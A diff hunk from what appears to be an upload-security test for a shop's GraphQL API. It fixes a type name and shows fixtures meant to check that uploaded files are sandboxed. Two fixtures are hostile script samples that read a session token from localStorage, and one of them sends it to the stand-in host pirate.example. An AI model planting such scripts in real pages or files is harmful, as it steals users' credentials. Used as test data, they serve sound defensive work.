@@ -11,7 +11,7 @@ import { startS3Server } from "./s3-server.ts";
 import { createCategory } from "../fixtures/catalogue.ts";
 import { isShopImageKey } from "../../server/src/services/media.ts";
 
-const CREATE = `mutation($input: ProduitInput!, $images: [File!]) { createProduct(input: $input, images: $images) { images { url srcSet } } }`;
+const CREATE = `mutation($input: ProductInput!, $images: [File!]) { createProduct(input: $input, images: $images) { images { url srcSet } } }`;
 const SANDBOX = "default-src 'none'; style-src 'unsafe-inline'; sandbox";
 const PAGE = Buffer.from("<!doctype html><script>fetch('/graphql',{method:'POST',body:localStorage.getItem('token')})</script>");
 const SCRIPT = Buffer.from("fetch('https://pirate.example/'+localStorage.getItem('token'))");
